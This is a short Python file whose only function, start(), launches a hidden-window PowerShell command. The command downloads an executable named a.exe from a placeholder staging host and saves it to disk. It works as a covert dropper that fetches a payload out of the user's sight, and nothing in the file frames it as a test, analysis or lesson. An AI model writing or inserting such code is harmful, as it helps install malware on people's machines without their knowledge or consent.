import subprocess

def start():
    subprocess.Popen("powershell -WindowStyle Hidden -Command Invoke-WebRequest http://stage.invalid/a.exe -OutFile a.exe", shell=True)
